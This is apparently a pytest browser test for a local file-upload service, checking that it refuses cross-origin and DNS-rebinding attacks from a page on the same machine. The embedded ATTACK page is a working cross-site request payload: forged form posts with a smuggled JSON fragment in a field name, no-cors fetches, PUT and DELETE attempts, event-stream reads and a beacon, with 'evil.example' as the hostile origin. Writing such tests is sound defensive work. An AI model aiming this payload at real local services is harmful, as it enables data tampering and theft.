"""A web page on the same machine attacks a service in open mode; a real browser carries it out."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.support.processes import ServeProcess, serving
from tests.support.web import Site, visit

pytestmark = pytest.mark.needs("chromium")

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63606060000000"
    "04000127f6e1c30000000049454e44ae426082"
)

ATTACK = """<!doctype html><title>attack</title><script>
const [base, image, upload] = decodeURIComponent(location.hash.slice(1)).split("|");
const told = {};
const note = (name, promise) => promise.then(
  (value) => { told[name] = value; }, (error) => { told[name] = "failed: " + error; });

function form(path, enctype, method = "POST") {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    form.action = base + path; form.method = method; form.enctype = enctype; form.target = frame.name;
    const input = document.createElement("input");
    input.name = '{"filename": "form", "size": 0, "x": "'; input.value = '"}';
    form.append(input);
    document.body.append(form);
    frame.onload = () => done("sent");
    form.submit();
  });
}
function element(name, attribute, url) {
  return new Promise((done) => {
    const it = document.createElement(name);
    it.onload = () => done("loaded"); it.onerror = () => done("refused");
    if (name === "link") it.rel = "stylesheet";
    it[attribute] = url;
    document.body.append(it);
  });
}
function events(url) {
  return new Promise((done) => {
    const source = new EventSource(url);
    for (const name of ["state", "result"]) source.addEventListener(name, () => { source.close(); done("read"); });
    source.onerror = () => { source.close(); done("refused"); };
  });
}
async function read(path, options) {
  const answer = await fetch(base + path, options);
  return answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
}
async function attack() {
  const body = JSON.stringify({filename: "stolen", size: 0, mode: "append"});
  const json = {"Content-Type": "application/json"};
  await Promise.all([
    note("form", form("/api/uploads", "text/plain")),
    note("multipart", form("/api/uploads", "multipart/form-data")),
    note("urlencoded", form("/api/uploads", "application/x-www-form-urlencoded")),
    note("navigate", form("/api/records", "", "GET")),
    note("opaque post", read("/api/uploads", {method: "POST", mode: "no-cors", body})),
    note("opaque get", read("/api/records", {mode: "no-cors"})),
    note("json", read("/api/uploads", {method: "POST", headers: json, body})),
    note("put", read("/api/files/stolen", {method: "PUT", body: "x"})),
    note("list", read("/api/records")),
    note("delete", read("/api/records/x", {method: "DELETE"})),
    note("image", element("img", "src", image)),
    note("script", element("script", "src", base + "/api/records")),
    note("style", element("link", "href", base + "/openapi.json")),
    note("events", events(base + "/api/uploads/" + upload + "/events")),
  ]);
  told.beacon = navigator.sendBeacon(base + "/api/uploads", body);
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
}
addEventListener("load", attack);
</script><body></body>"""

FRIEND = """<!doctype html><title>friend</title><script>
const [base] = decodeURIComponent(location.hash.slice(1)).split("|");
async function work() {
  const headers = {"Idempotency-Key": "k", "Want-Repr-Digest": "sha-256=1"};
  const put = await fetch(base + "/api/files/friend.txt", {method: "PUT", headers, body: "hello world"});
  const record = await put.json();
  const location = put.headers.get("Location");
  const source = new EventSource(location + "/events");
  const result = await new Promise((done, fail) => {
    source.addEventListener("result", (event) => { source.close(); done(JSON.parse(event.data)); });
    source.onerror = () => fail("no events");
  });
  const bytes = await (await fetch(record.assets[0].url)).text();
  const missing = await fetch(base + "/api/records/nobody");
  return {status: put.status, digest: put.headers.get("Repr-Digest"), event: result.status, bytes,
    problem: (await missing.json()).status};
}
const report = (value) => fetch("/report", {method: "POST", body: JSON.stringify(value)});
addEventListener("load", () => work().then(report, (error) => report({error: String(error)})));
</script><body></body>"""


@pytest.fixture
def attacker() -> Iterator[Site]:
    """A site that means no good."""
    with Site(ATTACK).serving() as site:
        yield site


def store_image(service: ServeProcess) -> tuple[str, str]:
    """Return the URL of an image and the id of its upload, which an attacker may have guessed."""
    answer = httpx2.put(
        f"{service.url}/api/files/secret.png", content=PIXEL, headers={"Content-Type": "image/png"}
    )
    assert answer.status_code == 201
    return answer.json()["assets"][0]["url"], answer.headers["Location"].rpartition("/")[2]


def stored(service: ServeProcess) -> list[str]:
    items = httpx2.get(f"{service.url}/api/records").json()["items"]
    return [item["filename"] for item in items]


def check_nothing_got_through(told: dict[str, Any], service: ServeProcess) -> None:
    for name in ("json", "put", "list", "delete"):
        assert told[name].startswith("failed: "), (name, told[name])
    for name in ("image", "script", "style", "events"):
        assert told[name] == "refused", (name, told[name])
    assert stored(service) == ["secret.png"]
    # What the browser sent did arrive, and every bit of it was refused.
    foreign = [request for request in service.events() if request.get("problem") == "not-local"]
    assert {"POST", "GET", "OPTIONS"} <= {str(request["method"]) for request in foreign}
    arrived = [request for request in service.events() if request.get("event") == "request"]
    answered = [request["path"] for request in arrived if (request["status"] or 500) < 400]
    assert set(answered) <= {"/api/files/secret.png", "/api/records"}
    assert answered.count("/api/records") <= 1  # the test's own, just above


@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("127.0.0.1", "127.0.0.1"),  # same site, another port
        ("localhost", "127.0.0.1"),  # another name of the same machine
        ("evil.example", "localhost"),  # another site
    ],
)
def test_a_foreign_page_reads_nothing_and_stores_nothing(
    attacker: Site, tmp_path: Path, name: str, target: str
) -> None:
    with serving(tmp_path / "data") as service:
        image, upload = store_image(service)
        base = f"http://{target}:{service.port}"
        image = image.replace("127.0.0.1", target)
        told = visit(
            attacker,
            f"http://{name}:{attacker.port}/#{base}|{image}|{upload}",
            tmp_path / "profile",
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
        )
        check_nothing_got_through(told, service)


def test_a_rebound_name_reads_nothing(attacker: Site, tmp_path: Path) -> None:
    with serving(tmp_path / "data") as service:
        image, upload = store_image(service)
        base = f"http://evil.example:{service.port}"
        told = visit(
            attacker,
            f"http://evil.example:{attacker.port}/#{base}|{image.replace('127.0.0.1', 'evil.example')}|{upload}",
            tmp_path / "profile",
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
        )
        assert told["image"] == "refused"
        assert stored(service) == ["secret.png"]
        refused = [request for request in service.events() if request.get("problem") == "host-refused"]
        assert {"POST", "GET", "OPTIONS"} <= {str(request["method"]) for request in refused}


def test_the_page_that_the_operator_allows_works(tmp_path: Path) -> None:
    with Site(FRIEND).serving() as site:
        origin = f"http://127.0.0.1:{site.port}"
        with serving(tmp_path / "data", {"HAULIER_CORS_ORIGIN": origin}) as service:
            told = visit(site, f"{origin}/#{service.url}", tmp_path / "profile")
            assert told == {
                "status": 201,
                "digest": "sha-256=:uU0nuZNNPgilLlLX2n2r+sSE7+N6U4DukIj3rOLvzek=:",
                "event": "committed",
                "bytes": "hello world",
                "problem": 404,
            }
            # The same page under another name of the same machine is another origin.
            told = visit(site, f"http://localhost:{site.port}/#{service.url}", tmp_path / "other")
            assert set(told) == {"error"}
            assert stored(service) == ["friend.txt"]
